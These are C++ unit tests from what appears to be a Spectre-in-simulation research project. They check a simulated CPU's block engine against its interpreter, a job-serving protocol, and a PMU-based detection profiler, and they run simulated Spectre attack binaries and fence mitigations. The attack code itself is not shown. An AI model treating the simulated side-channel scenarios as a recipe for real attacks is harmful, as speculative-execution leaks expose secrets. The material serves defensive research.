// count, every PMU counter and the program output must be identical to the
// interpreter — for benign workloads and for a full Spectre attack run
// whose timing side channel is the whole point.
TEST(BlockEngine, BitIdenticalToInterpreter) {
  const auto run_one = [](const sim::Program& prog, ExecEngine engine) {
    sim::Machine machine(engine_config(engine));
    sim::Kernel kernel(machine);
    kernel.register_binary("/bin/p", prog);
    kernel.start_with_strings("/bin/p", {"p"});
    kernel.run(50'000'000);
    return std::tuple{machine.cpu().retired(), machine.cpu().cycle(),
                      machine.pmu().snapshot(), kernel.output_string()};
  };

  workloads::WorkloadOptions opt;
  opt.scale = 500;
  for (const char* name : {"sha", "basicmath"}) {
    const auto benign = workloads::build_workload(name, opt);
    EXPECT_EQ(run_one(benign, ExecEngine::kBlocks),
              run_one(benign, ExecEngine::kInterp))
        << name;
  }

  attack::AttackConfig acfg;
  acfg.embed_secret = "BLOCK-ENGINE-EQS";  // 16 bytes, the default length
  const auto attack_prog = attack::build_attack_binary(acfg);
  EXPECT_EQ(run_one(attack_prog, ExecEngine::kBlocks),
            run_one(attack_prog, ExecEngine::kInterp));
}

constexpr const char* kBoundsLoop =
    "_start:\n"
    "  movi r1, 64\n"    // len
    "  movi r2, 0\n"     // idx
    "loop:\n"
    "  cmpltu r3, r2, r1\n"
    "  beqz r3, done\n"  // bounds check: cmp feeds the branch
    "  addi r2, r2, 1\n"
    "  jmp loop\n"
    "done:\n"
    "  movi r1, 0\n"
    "  call exit_\n";

// A fence pass rewriting an already-executing page must kill the warm
// translated blocks — a stale un-hinted block would silently re-open the
// speculation window the pass just closed. The warm-up runs through
// kernel.run (the block engine), not step(), so the loop really is resident
// in the block cache when the rewrite lands.
TEST(BlockEngine, MidRunFencePassRewriteKillsWarmBlocks) {
  sim::MachineConfig mcfg = engine_config(ExecEngine::kBlocks);
  mcfg.cpu.honor_fence_hints = true;
  SimHarness h({}, mcfg);
  h.add_program(kBoundsLoop, "/bin/t");
  h.kernel().start_with_strings("/bin/t", {"t"});

  auto& cpu = h.machine().cpu();
  ASSERT_NE(cpu.block_cache(), nullptr);
  ASSERT_EQ(h.kernel().run(40), StopReason::kInstructionLimit);
  ASSERT_FALSE(cpu.halted());
  ASSERT_GT(cpu.block_cache()->stats().hits, 0u)
      << "warm-up never reached a cached block";
  ASSERT_EQ(cpu.mitigation_stats().fence_stalls, 0u)
      << "no hints may fire before the pass runs";

  // Harden the mapped image in place, mid-run.
  const auto& img = h.kernel().main_image();
  const auto stats =
      mitigate::insert_bounds_fences(h.machine().memory(), img.lo, img.hi);
  ASSERT_GT(stats.fences_planted, 0u);

  ASSERT_EQ(h.kernel().run(1'000'000), StopReason::kHalted);
  EXPECT_GT(cpu.block_cache()->stats().retranslations, 0u)
      << "the rewrite never invalidated a warm block";
  EXPECT_GT(cpu.mitigation_stats().fence_stalls, 0u)
      << "stale pre-pass blocks executed after the rewrite";
}

// Snapshot restore vs the block cache: a restore bumps page versions (never
// rolls them back), so blocks translated from a later program's bytes must
// die, and a restored run must be bit-identical to the original run even
// though the block cache is warm with stale translations.
TEST(BlockEngine, SnapshotRestoreAfterWarmupBitIdenticalToFresh) {
  sim::Machine machine(engine_config(ExecEngine::kBlocks));
  auto& mem = machine.memory();
  const std::uint64_t base = 0x1000;
  mem.set_permissions(base, Memory::kPageSize,
                      static_cast<sim::Perm>(sim::kPermRW | sim::kPermExec));
  put(mem, base + 0x00, isa::Opcode::kMovImm, 1, 0, 0, 11);
  put(mem, base + 0x08, isa::Opcode::kAddImm, 1, 1, 0, 3);
  put(mem, base + 0x10, isa::Opcode::kHalt);

  // Checkpoint with program A in place, then run it cold.
  sim::MachineSnapshot snap = machine.snapshot();
  machine.cpu().reset(base, 0x8000);
  EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);
  const auto fresh = std::tuple{machine.cpu().reg(1), machine.cpu().retired(),
                                machine.cpu().cycle(),
                                machine.pmu().snapshot()};
  EXPECT_EQ(std::get<0>(fresh), 14u);

  // Overwrite with program B and run: the block cache now holds B's blocks.
  put(mem, base + 0x00, isa::Opcode::kMovImm, 1, 0, 0, 22);
  machine.cpu().reset(base, 0x8000);
  EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);
  EXPECT_EQ(machine.cpu().reg(1), 25u);

  // Roll back to A and re-run: warm-but-stale blocks must retranslate, and
  // the run must reproduce the fresh run's counters exactly.
  machine.restore(snap);
  machine.cpu().reset(base, 0x8000);
  EXPECT_EQ(machine.cpu().run(100), StopReason::kHalted);
  const auto restored = std::tuple{
      machine.cpu().reg(1), machine.cpu().retired(), machine.cpu().cycle(),
      machine.pmu().snapshot()};
  EXPECT_EQ(restored, fresh) << "stale block of B survived the restore";
  EXPECT_GT(machine.cpu().block_cache()->stats().retranslations, 0u);
}

// A block whose bytes straddle a page boundary guards both pages: bumping
// the *second* page's version — or invalidating it outright, as clflush of
// a line in it would — must force retranslation even though the entry page
// never changed.
TEST(BlockEngine, StraddlingBlockRetranslatesOnSiblingPageInvalidation) {
  Memory mem(4 * Memory::kPageSize);
  mem.set_permissions(0, 2 * Memory::kPageSize,
                      static_cast<sim::Perm>(sim::kPermRW | sim::kPermExec));
  // Two body ops at the end of page 0, tail + more body in page 1.
  const std::uint64_t entry = Memory::kPageSize - 2 * isa::kInstructionSize;
  put(mem, entry + 0x00, isa::Opcode::kMovImm, 1, 0, 0, 5);
  put(mem, entry + 0x08, isa::Opcode::kAddImm, 1, 1, 0, 2);
  put(mem, entry + 0x10, isa::Opcode::kMovImm, 2, 0, 0, 9);  // page 1
  put(mem, entry + 0x18, isa::Opcode::kHalt);

  BlockCache bc(mem, /*mul_latency=*/3, /*div_latency=*/20);
  const sim::TranslatedBlock* block = bc.acquire(entry);
  ASSERT_NE(block, nullptr);
  ASSERT_EQ(block->guard_count, 2u) << "block does not straddle the boundary";
  EXPECT_EQ(block->body.size(), 3u);
  EXPECT_EQ(bc.stats().translations, 1u);

  // Re-acquire while both pages are untouched: a guard-validated hit.
  EXPECT_EQ(bc.acquire(entry), block);
  EXPECT_EQ(bc.stats().hits, 1u);

  // Patch the instruction in the *second* page only.
  put(mem, entry + 0x10, isa::Opcode::kMovImm, 2, 0, 0, 42);
  const sim::TranslatedBlock* again = bc.acquire(entry);
  ASSERT_NE(again, nullptr);
  EXPECT_EQ(bc.stats().retranslations, 1u)
      << "sibling-page version bump did not kill the straddler";
  EXPECT_EQ(again->body[2].imm, 42);

  // Explicit invalidation of the second page (the clflush path) must drop
  // the straddler via the incoming-block backrefs; the next acquire is a
  // fresh translation, not a hit.
  bc.invalidate(Memory::kPageSize);
  EXPECT_EQ(bc.stats().invalidations, 1u);
  ASSERT_NE(bc.acquire(entry), nullptr);
  EXPECT_EQ(bc.stats().translations, 2u);
  EXPECT_EQ(bc.stats().hits, 1u);
}

// Instruction budgets land mid-block: running the same program in small
// uneven chunks must stop at exactly the same instruction boundaries as the
// interpreter, with identical architectural and PMU state at every chunk
// edge — the regime the HID profiler's sampling loop lives in.
TEST(BlockEngine, ChunkedRunBudgetBoundariesMatchInterpreter) {
  const auto setup = [](sim::Machine& machine) {
    auto& mem = machine.memory();
    const std::uint64_t base = 0x1000;
    mem.set_permissions(base, Memory::kPageSize, sim::kPermRX);
    put(mem, base + 0x00, isa::Opcode::kMovImm, 1, 0, 0, 200);  // counter
    put(mem, base + 0x08, isa::Opcode::kMovImm, 2, 0, 0, 0);    // acc
    put(mem, base + 0x10, isa::Opcode::kAddImm, 2, 2, 1, 0);    // loop:
    put(mem, base + 0x18, isa::Opcode::kMul, 3, 2, 2, 0);
    put(mem, base + 0x20, isa::Opcode::kAddImm, 1, 1, 0, -1);
    put(mem, base + 0x28, isa::Opcode::kBnez, 0, 1, 0, 0x1010);
    put(mem, base + 0x30, isa::Opcode::kHalt);
    machine.cpu().reset(base, 0x8000);
  };

  sim::Machine blocks(engine_config(ExecEngine::kBlocks));
  sim::Machine interp(engine_config(ExecEngine::kInterp));
  setup(blocks);
  setup(interp);

  // Uneven budgets, several smaller than the loop body's block.
  const std::uint64_t budgets[] = {1, 3, 7, 2, 13, 1, 5, 64, 11, 1000};
  for (std::size_t i = 0; !blocks.cpu().halted(); i = (i + 1) % 10) {
    const auto rb = blocks.cpu().run(budgets[i]);
    const auto ri = interp.cpu().run(budgets[i]);
    ASSERT_EQ(rb, ri) << "chunk " << i;
    ASSERT_EQ(blocks.cpu().pc(), interp.cpu().pc()) << "chunk " << i;
    ASSERT_EQ(blocks.cpu().retired(), interp.cpu().retired()) << "chunk " << i;
    ASSERT_EQ(blocks.cpu().cycle(), interp.cpu().cycle()) << "chunk " << i;
    ASSERT_EQ(blocks.pmu().snapshot(), interp.pmu().snapshot())
        << "chunk " << i;
  }
  EXPECT_TRUE(interp.cpu().halted());
}

}  // namespace
}  // namespace crs
