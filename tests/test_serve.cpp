// Protocol + service tier for src/serve (DESIGN.md §12, docs/SERVING.md).
//
// Covers: frame round-trips under pathological chunking, strict decoder
// rejection of malformed streams, job-spec serialization round-trips,
// queue-full backpressure, graceful shutdown draining, mid-flight
// cancellation, and the headline contract — a job served over the wire is
// byte-identical to the batch CLI run of the same spec, for any
// CRS_THREADS and any shard count.
#include <gtest/gtest.h>

#include <unistd.h>

#include <string>
#include <thread>
#include <vector>

#include "core/corpus.hpp"
#include "core/job.hpp"
#include "core/report.hpp"
#include "serve/client.hpp"
#include "serve/protocol.hpp"
#include "serve/server.hpp"
#include "support/error.hpp"
#include "support/parallel.hpp"
#include "support/socket.hpp"

namespace crs {
namespace {

using serve::Client;
using serve::Frame;
using serve::FrameDecoder;
using serve::FrameType;
using serve::ServeConfig;
using serve::Server;

core::JobSpec scenario_spec(std::uint64_t id, int attempts = 1) {
  core::JobSpec spec;
  spec.kind = core::JobKind::kScenario;
  spec.id = id;
  spec.scenario.config.rop_injected = false;
  spec.scenario.config.host_scale = 900;
  spec.scenario.config.secret = "WIRE";
  spec.scenario.config.seed = 7;
  spec.scenario.attempts = attempts;
  return spec;
}

core::JobSpec campaign_spec(std::uint64_t id) {
  core::JobSpec spec;
  spec.kind = core::JobKind::kCampaign;
  spec.id = id;
  spec.campaign.config.scenario.rop_injected = false;
  spec.campaign.config.scenario.host_scale = 700;
  spec.campaign.config.scenario.secret = "CAMP";
  spec.campaign.config.attempts = 4;
  spec.campaign.config.seed = 11;
  spec.campaign.corpus_windows = 12;
  spec.campaign.corpus_seed = 3;
  return spec;
}

core::JobSpec matrix_spec(std::uint64_t id) {
  core::JobSpec spec;
  spec.kind = core::JobKind::kMatrix;
  spec.id = id;
  spec.matrix.config.quick = true;
  spec.matrix.config.presets = {"none", "slh"};
  spec.matrix.config.host_scale = 1200;
  spec.matrix.config.corpus_windows = 16;
  return spec;
}

core::JobSpec program_spec(std::uint64_t id) {
  core::JobSpec spec;
  spec.kind = core::JobKind::kProgram;
  spec.id = id;
  spec.program.source =
      "main:\n"
      "  movi r1, 41\n"
      "  addi r1, r1, 1\n"
      "  call exit_\n";
  return spec;
}

// --- Protocol -------------------------------------------------------------

TEST(ServeProtocol, FrameRoundTripByteAtATime) {
  const std::string payload = "id=1\nreason=queue_full\n";
  const std::string wire = serve::encode_frame(FrameType::kRejected, payload);

  FrameDecoder dec;
  for (std::size_t i = 0; i + 1 < wire.size(); ++i) {
    dec.feed(wire.data() + i, 1);
    EXPECT_FALSE(dec.next().has_value()) << "frame complete too early at " << i;
  }
  dec.feed(wire.data() + wire.size() - 1, 1);
  const auto frame = dec.next();
  ASSERT_TRUE(frame.has_value());
  EXPECT_EQ(frame->type, FrameType::kRejected);
  EXPECT_EQ(frame->payload, payload);
  EXPECT_FALSE(dec.next().has_value());
  EXPECT_EQ(dec.buffered(), 0u);
}

TEST(ServeProtocol, MultipleFramesOneFeed) {
  std::string wire = serve::encode_frame(FrameType::kPing, "");
  wire += serve::encode_frame(FrameType::kPong, "abc");
  wire += serve::encode_frame(FrameType::kAccepted, "id=9\n");

  FrameDecoder dec;
  dec.feed(wire.data(), wire.size());
  EXPECT_EQ(dec.next()->type, FrameType::kPing);
  EXPECT_EQ(dec.next()->payload, "abc");
  EXPECT_EQ(serve::parse_accepted(dec.next()->payload).id, 9u);
  EXPECT_FALSE(dec.next().has_value());
}

TEST(ServeProtocol, DecoderRejectsBadMagic) {
  FrameDecoder dec;
  const std::string junk = "XXXXXXXXXXXXXXXX";
  dec.feed(junk.data(), junk.size());
  EXPECT_THROW(dec.next(), Error);
}

TEST(ServeProtocol, DecoderRejectsUnknownType) {
  std::string wire = serve::encode_frame(FrameType::kPing, "");
  wire[4] = 99;
  FrameDecoder dec;
  dec.feed(wire.data(), wire.size());
  EXPECT_THROW(dec.next(), Error);
}

TEST(ServeProtocol, DecoderRejectsNonzeroReserved) {
  std::string wire = serve::encode_frame(FrameType::kPing, "");
  wire[6] = 1;
  FrameDecoder dec;
  dec.feed(wire.data(), wire.size());
  EXPECT_THROW(dec.next(), Error);
}

TEST(ServeProtocol, DecoderRejectsOversizedLength) {
  std::string wire = serve::encode_frame(FrameType::kPing, "");
  wire[8] = wire[9] = wire[10] = wire[11] = static_cast<char>(0xFF);
  FrameDecoder dec;
  dec.feed(wire.data(), wire.size());
  EXPECT_THROW(dec.next(), Error);
}

TEST(ServeProtocol, TruncatedFrameJustWaits) {
  const std::string wire = serve::encode_frame(FrameType::kPong, "payload");
  FrameDecoder dec;
  dec.feed(wire.data(), wire.size() - 3);
  EXPECT_FALSE(dec.next().has_value());  // incomplete, not an error
  dec.feed(wire.data() + wire.size() - 3, 3);
  EXPECT_EQ(dec.next()->payload, "payload");
}

TEST(ServeProtocol, ResultPayloadCarriesRawBytes) {
  serve::ResultPayload in;
  in.id = 42;
  in.status = "ok";
  // Deliberately key=value-shaped and newline-riddled: the raw body must
  // survive untouched.
  in.payload = "id=evil\nstatus=nope\n\x01\x02\xff raw";
  const serve::ResultPayload out = serve::parse_result(encode_result(in));
  EXPECT_EQ(out.id, 42u);
  EXPECT_TRUE(out.ok());
  EXPECT_EQ(out.payload, in.payload);
}

TEST(ServeProtocol, ParseResultRejectsLengthMismatch) {
  std::string wire = "id=1\nstatus=ok\nbytes=5\nabc";
  EXPECT_THROW(serve::parse_result(wire), Error);
}

// --- Job spec -------------------------------------------------------------

TEST(ServeJobSpec, SerializeParseRoundTrip) {
  for (const auto& spec :
       {scenario_spec(3, 5), campaign_spec(4), matrix_spec(5),
        program_spec(6)}) {
    const std::string text = core::serialize_job(spec);
    const core::JobSpec back = core::parse_job(text);
    EXPECT_EQ(core::serialize_job(back), text);
    EXPECT_EQ(back.id, spec.id);
    EXPECT_EQ(back.kind, spec.kind);
  }
}

TEST(ServeJobSpec, RoundTripPreservesDoubleBits) {
  core::JobSpec spec = scenario_spec(1);
  spec.scenario.config.profiler.noise_sigma = 0.1 + 0.2;  // not representable
  const core::JobSpec back = core::parse_job(core::serialize_job(spec));
  EXPECT_EQ(back.scenario.config.profiler.noise_sigma,
            spec.scenario.config.profiler.noise_sigma);
}

TEST(ServeJobSpec, ParseRejectsGarbage) {
  EXPECT_THROW(core::parse_job(""), Error);
  EXPECT_THROW(core::parse_job("not a job\n"), Error);
  EXPECT_THROW(core::parse_job("crs-job v1\nid=1\n"), Error);  // id before kind
  EXPECT_THROW(core::parse_job("crs-job v1\nkind=sandwich\n"), Error);
  EXPECT_THROW(
      core::parse_job("crs-job v1\nkind=scenario\nnonsense_key=1\n"), Error);
  EXPECT_THROW(
      core::parse_job("crs-job v1\nkind=scenario\nvariant=spectre-nope\n"),
      Error);
  EXPECT_THROW(
      core::parse_job("crs-job v1\nkind=scenario\nseed=twelve\n"), Error);
  // Truncated program source.
  EXPECT_THROW(
      core::parse_job("crs-job v1\nkind=program\nprog.source=100\nshort\n"),
      Error);
}

TEST(ServeJobSpec, AffinityKeyGroupsByConfig) {
  const core::JobSpec a = scenario_spec(1);
  core::JobSpec b = scenario_spec(2);  // same config, different id
  EXPECT_EQ(core::job_affinity_key(a), core::job_affinity_key(b));
  b.scenario.config.host_scale += 1;
  EXPECT_NE(core::job_affinity_key(a), core::job_affinity_key(b));
}

// --- Served == batch byte-identity ---------------------------------------

class ThreadOverrideGuard {
 public:
  ~ThreadOverrideGuard() { set_thread_override(0); }
};

TEST(ServeIdentity, ServedEqualsBatchForAnyThreadsAndShards) {
  ThreadOverrideGuard guard;

  // Reference bytes, computed in-process exactly as `crs_serve --oneshot`
  // (the batch CLI twin) does.
  set_thread_override(1);
  const std::string scenario_ref = core::run_job(scenario_spec(0, 3)).payload;
  const std::string campaign_ref = core::run_job(campaign_spec(0)).payload;

  for (const unsigned threads : {1u, 2u, 8u}) {
    set_thread_override(threads);
    for (const int shards : {1, 3}) {
      ServeConfig scfg;
      scfg.shards = shards;
      scfg.queue_capacity = 16;
      Server server(scfg);
      server.start();
      Client client = Client::connect_tcp(server.port());

      const Client::JobResult s = client.run(scenario_spec(1, 3));
      ASSERT_TRUE(s.accepted);
      EXPECT_EQ(s.status, "ok");
      EXPECT_EQ(s.payload, scenario_ref)
          << "threads=" << threads << " shards=" << shards;

      const Client::JobResult c = client.run(campaign_spec(2));
      ASSERT_TRUE(c.accepted);
      EXPECT_EQ(c.payload, campaign_ref)
          << "threads=" << threads << " shards=" << shards;

      server.shutdown(true);
      const serve::ServeStats stats = server.stats();
      EXPECT_EQ(stats.received, stats.accepted + stats.rejected);
      EXPECT_EQ(stats.accepted, stats.completed + stats.cancelled);
    }
  }
}

TEST(ServeIdentity, MatrixPayloadEqualsBatchCsv) {
  const core::JobSpec spec = matrix_spec(1);
  // What `crs_matrix --csv` prints for this config.
  const std::string batch_csv =
      core::matrix_csv(core::run_defense_matrix(spec.matrix.config));

  ServeConfig scfg;
  scfg.shards = 2;
  Server server(scfg);
  server.start();
  Client client = Client::connect_tcp(server.port());
  const Client::JobResult r = client.run(spec);
  ASSERT_TRUE(r.accepted);
  EXPECT_EQ(r.status, "ok");
  EXPECT_EQ(r.payload, batch_csv);
  server.shutdown(true);
}

TEST(ServeIdentity, CampaignPayloadEqualsBatchCsv) {
  const core::JobSpec spec = campaign_spec(1);
  core::CorpusConfig ccfg;
  ccfg.windows_per_class = spec.campaign.corpus_windows;
  ccfg.secret = spec.campaign.config.scenario.secret;
  ccfg.seed = spec.campaign.corpus_seed;
  const ml::Dataset benign = core::build_benign_corpus(ccfg);
  const ml::Dataset attack = core::build_attack_corpus(ccfg);
  const std::string batch_csv =
      core::campaign_to_csv(core::run_campaign(spec.campaign.config, benign,
                                               attack));
  EXPECT_EQ(core::run_job(spec).payload, batch_csv);
}

TEST(ServeIdentity, ScenarioAttemptZeroMatchesRunScenario) {
  const core::JobSpec spec = scenario_spec(1, 1);
  const core::ScenarioRun direct = core::run_scenario(spec.scenario.config);
  const std::string payload = core::run_job(spec).payload;
  // Row 1 carries run_scenario's ground truth.
  const std::string needle =
      "\n1," + std::to_string(direct.attack_launched ? 1 : 0) + "," +
      std::to_string(direct.secret_recovered ? 1 : 0) + ",";
  EXPECT_NE(payload.find(needle), std::string::npos) << payload;
  EXPECT_NE(payload.find(std::to_string(direct.profile.cycles)),
            std::string::npos);
}

TEST(ServeIdentity, ProgramJobOverWireMatchesDirect) {
  const core::JobSpec spec = program_spec(1);
  const std::string direct = core::run_job(spec).payload;
  EXPECT_NE(direct.find("exit=42"), std::string::npos) << direct;

  ServeConfig scfg;
  Server server(scfg);
  server.start();
  Client client = Client::connect_tcp(server.port());
  const Client::JobResult r = client.run(spec);
  ASSERT_TRUE(r.accepted);
  EXPECT_EQ(r.payload, direct);
  server.shutdown(true);
}

// --- Scheduling & lifecycle ----------------------------------------------

TEST(ServeServer, QueueFullBackpressure) {
  ServeConfig scfg;
  scfg.shards = 1;
  scfg.queue_capacity = 2;
  Server server(scfg);
  server.start();
  server.pause_workers();

  Client client = Client::connect_tcp(server.port());
  // Fill the queue: these two are accepted…
  client.submit(scenario_spec(1));
  client.submit(scenario_spec(2));
  EXPECT_EQ(client.next_event().type, FrameType::kAccepted);
  EXPECT_EQ(client.next_event().type, FrameType::kAccepted);
  // …the third bounces with the backpressure reason.
  client.submit(scenario_spec(3));
  const Client::Event ev = client.next_event();
  EXPECT_EQ(ev.type, FrameType::kRejected);
  EXPECT_EQ(ev.id, 3u);
  EXPECT_EQ(ev.reason, "queue_full");

  // Backpressure is advisory, not fatal: after the queue drains the same
  // client submits successfully.
  server.resume_workers();
  const Client::JobResult r1 = client.await_result(1);
  EXPECT_EQ(r1.status, "ok");
  const Client::JobResult r2 = client.await_result(2);
  EXPECT_EQ(r2.status, "ok");
  const Client::JobResult r4 = client.run(scenario_spec(4));
  EXPECT_EQ(r4.status, "ok");

  server.shutdown(true);
  const serve::ServeStats stats = server.stats();
  EXPECT_EQ(stats.received, 4u);
  EXPECT_EQ(stats.accepted, 3u);
  EXPECT_EQ(stats.rejected, 1u);
  EXPECT_EQ(stats.completed, 3u);
  EXPECT_EQ(stats.cancelled, 0u);
}

TEST(ServeServer, GracefulShutdownDrainsInFlight) {
  ServeConfig scfg;
  scfg.shards = 2;
  scfg.queue_capacity = 16;
  Server server(scfg);
  server.start();
  server.pause_workers();

  Client client = Client::connect_tcp(server.port());
  const int kJobs = 5;
  for (int i = 0; i < kJobs; ++i) client.submit(scenario_spec(1 + i));
  for (int i = 0; i < kJobs; ++i) {
    EXPECT_EQ(client.next_event().type, FrameType::kAccepted);
  }

  // Shut down while everything is still queued: drain must run all five
  // and deliver all five RESULT frames before the connection dies.
  std::thread closer([&] { server.shutdown(true); });
  int ok = 0;
  int results = 0;
  while (results < kJobs) {
    const Client::Event ev = client.next_event();  // throws if server hangs up
    if (ev.type != FrameType::kResult) continue;   // progress frames
    ++results;
    if (ev.status == "ok") ++ok;
  }
  closer.join();
  EXPECT_EQ(ok, kJobs);

  const serve::ServeStats stats = server.stats();
  EXPECT_EQ(stats.accepted, static_cast<std::uint64_t>(kJobs));
  EXPECT_EQ(stats.completed, static_cast<std::uint64_t>(kJobs));
  EXPECT_EQ(stats.cancelled, 0u);
}

TEST(ServeServer, ShutdownFrameRejectsNewWork) {
  ServeConfig scfg;
  Server server(scfg);
  server.start();
  Client client = Client::connect_tcp(server.port());

  client.request_shutdown();
  EXPECT_EQ(client.next_event().type, FrameType::kPong);
  EXPECT_TRUE(server.shutdown_requested());

  client.submit(scenario_spec(1));
  const Client::Event ev = client.next_event();
  EXPECT_EQ(ev.type, FrameType::kRejected);
  EXPECT_EQ(ev.reason, "shutting_down");
  server.shutdown(true);
}

TEST(ServeServer, CancelMidFlight) {
  ServeConfig scfg;
  scfg.shards = 1;
  Server server(scfg);
  server.start();
  Client client = Client::connect_tcp(server.port());

  // Enough attempts that the job is still running when the cancel lands;
  // the progress stream tells us it started.
  client.submit(scenario_spec(1, 200));
  EXPECT_EQ(client.next_event().type, FrameType::kAccepted);
  Client::Event ev = client.next_event();
  EXPECT_EQ(ev.type, FrameType::kProgress);
  EXPECT_EQ(ev.progress.total, 200u);
  client.cancel(1);
  do {
    ev = client.next_event();
  } while (ev.type == FrameType::kProgress);
  EXPECT_EQ(ev.type, FrameType::kResult);
  EXPECT_EQ(ev.status, "cancelled");
  EXPECT_TRUE(ev.payload.empty());

  server.shutdown(true);
  const serve::ServeStats stats = server.stats();
  EXPECT_EQ(stats.cancelled, 1u);
  EXPECT_EQ(stats.completed, 0u);
}

TEST(ServeServer, BadSubmitRejectedWithoutCrashing) {
  ServeConfig scfg;
  Server server(scfg);
  server.start();
  Client client = Client::connect_tcp(server.port());

  client.ping();
  EXPECT_EQ(client.next_event().type, FrameType::kPong);

  // Malformed job spec inside a well-formed frame: rejected as bad_request,
  // and the rejection echoes the id the broken spec managed to name.
  {
    const std::string junk = "crs-job v1\nkind=scenario\nid=77\nbogus=1\n";
    const std::string frame = serve::encode_frame(FrameType::kSubmit, junk);
    Socket s = connect_tcp_loopback(server.port());
    s.send_all(frame.data(), frame.size());
    FrameDecoder dec;
    char buf[512];
    for (;;) {
      const std::size_t n = s.recv_some(buf, sizeof buf);
      ASSERT_GT(n, 0u);
      dec.feed(buf, n);
      if (auto f = dec.next()) {
        ASSERT_EQ(f->type, FrameType::kRejected);
        const serve::RejectedPayload p = serve::parse_rejected(f->payload);
        EXPECT_EQ(p.id, 77u);
        EXPECT_EQ(p.reason, "bad_request");
        EXPECT_FALSE(p.detail.empty());
        break;
      }
    }
  }

  // And a stream that is not frames at all: the server answers with an
  // ERROR frame, closes that connection, and keeps serving others.
  {
    Socket s = connect_tcp_loopback(server.port());
    const std::string garbage(64, 'Z');
    s.send_all(garbage.data(), garbage.size());
    FrameDecoder dec;
    char buf[512];
    bool got_error = false;
    for (;;) {
      const std::size_t n = s.recv_some(buf, sizeof buf);
      if (n == 0) break;  // server hung up, as designed
      dec.feed(buf, n);
      if (auto f = dec.next()) {
        EXPECT_EQ(f->type, FrameType::kError);
        got_error = true;
      }
    }
    EXPECT_TRUE(got_error);
  }

  // Healthy tenants are unaffected.
  const Client::JobResult r = client.run(scenario_spec(5));
  EXPECT_EQ(r.status, "ok");
  server.shutdown(true);
}

TEST(ServeServer, UnixDomainEndpoint) {
  ServeConfig scfg;
  scfg.unix_path =
      "/tmp/crs_serve_test_" + std::to_string(::getpid()) + ".sock";
  Server server(scfg);
  server.start();
  Client client = Client::connect_unix(scfg.unix_path);
  const Client::JobResult r = client.run(program_spec(1));
  EXPECT_EQ(r.status, "ok");
  EXPECT_NE(r.payload.find("exit=42"), std::string::npos);
  server.shutdown(true);
}

TEST(ServeServer, FailedJobGetsTerminalFrame) {
  ServeConfig scfg;
  Server server(scfg);
  server.start();
  Client client = Client::connect_tcp(server.port());

  // Parses fine, fails at runtime: the assembler rejects the source.
  core::JobSpec spec = program_spec(1);
  spec.program.source = "main:\n  frobnicate r1, r2\n";
  const Client::JobResult r = client.run(spec);
  ASSERT_TRUE(r.accepted);
  EXPECT_EQ(r.status, "failed");
  EXPECT_FALSE(r.payload.empty());

  server.shutdown(true);
  const serve::ServeStats stats = server.stats();
  EXPECT_EQ(stats.accepted, stats.completed + stats.cancelled);
}

}  // namespace
}  // namespace crs
