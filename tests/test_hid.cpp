#include <gtest/gtest.h>

#include "attack/spectre.hpp"
#include "harness.hpp"
#include "hid/detector.hpp"
#include "hid/features.hpp"
#include "hid/profiler.hpp"
#include "support/error.hpp"
#include "workloads/workloads.hpp"

namespace crs::hid {
namespace {

using sim::Event;
using sim::StopReason;

ProfileResult profile_workload(const std::string& name, std::uint64_t scale,
                               const ProfilerConfig& config = {}) {
  sim::Machine machine;
  sim::Kernel kernel(machine);
  workloads::WorkloadOptions opt;
  opt.scale = scale;
  kernel.register_binary("/bin/w", workloads::build_workload(name, opt));
  return profile_run_strings(kernel, "/bin/w", {name, "input"}, config);
}

TEST(Profiler, WindowsCoverTheWholeRun) {
  ProfilerConfig cfg;
  cfg.noise_sigma = 0.0;
  cfg.background_intensity = 0.0;
  const auto r = profile_workload("basicmath", 2000, cfg);
  EXPECT_EQ(r.stop, StopReason::kHalted);
  EXPECT_GT(r.windows.size(), 10u);
  std::uint64_t total_instr = 0;
  for (const auto& w : r.windows) {
    total_instr += w.delta[static_cast<std::size_t>(Event::kInstructions)];
  }
  EXPECT_EQ(total_instr, r.instructions);
}

TEST(Profiler, WindowLengthsAreRespected) {
  ProfilerConfig cfg;
  cfg.window_cycles = 10'000;
  cfg.noise_sigma = 0.0;
  cfg.background_intensity = 0.0;
  const auto r = profile_workload("bitcount", 5000, cfg);
  ASSERT_GT(r.windows.size(), 3u);
  // All but the last window must be close to the configured length.
  for (std::size_t i = 0; i + 1 < r.windows.size(); ++i) {
    const auto cyc =
        r.windows[i].delta[static_cast<std::size_t>(Event::kCycles)];
    EXPECT_GE(cyc, 10'000u);
    EXPECT_LT(cyc, 11'500u) << "window " << i;
  }
}

TEST(Profiler, NoiselessModeIsExactAndDeterministic) {
  ProfilerConfig cfg;
  cfg.noise_sigma = 0.0;
  cfg.background_intensity = 0.0;
  const auto a = profile_workload("crc32", 20, cfg);
  const auto b = profile_workload("crc32", 20, cfg);
  ASSERT_EQ(a.windows.size(), b.windows.size());
  for (std::size_t i = 0; i < a.windows.size(); ++i) {
    EXPECT_EQ(a.windows[i].delta, b.windows[i].delta);
    EXPECT_EQ(a.windows[i].delta, a.windows[i].true_delta);
  }
}

TEST(Profiler, MeasurementNoisePerturbsButPreservesScale) {
  ProfilerConfig noisy;
  noisy.noise_sigma = 0.10;
  noisy.background_intensity = 0.0;
  const auto r = profile_workload("crc32", 20, noisy);
  std::size_t differing = 0;
  for (const auto& w : r.windows) {
    const auto t = w.true_delta[static_cast<std::size_t>(Event::kInstructions)];
    const auto m = w.delta[static_cast<std::size_t>(Event::kInstructions)];
    if (t != m) ++differing;
    EXPECT_NEAR(static_cast<double>(m), static_cast<double>(t),
                0.6 * static_cast<double>(t) + 10);
  }
  EXPECT_GT(differing, r.windows.size() / 2);
}

TEST(Profiler, BackgroundNoiseAddsFloorToRareEvents) {
  ProfilerConfig cfg;
  cfg.noise_sigma = 0.0;
  cfg.background_intensity = 1.0;
  const auto r = profile_workload("bitcount", 5000, cfg);
  // bitcount itself almost never misses; the background floor must show.
  std::uint64_t true_misses = 0, measured = 0;
  for (const auto& w : r.windows) {
    true_misses += w.true_delta[static_cast<std::size_t>(Event::kL1dMisses)];
    measured += w.delta[static_cast<std::size_t>(Event::kL1dMisses)];
  }
  EXPECT_GT(measured, true_misses);
}

TEST(Profiler, NoiseSeedControlsDraws) {
  ProfilerConfig a;
  a.noise_seed = 1;
  ProfilerConfig b;
  b.noise_seed = 2;
  const auto ra = profile_workload("crc32", 10, a);
  const auto rb = profile_workload("crc32", 10, b);
  ASSERT_EQ(ra.windows.size(), rb.windows.size());
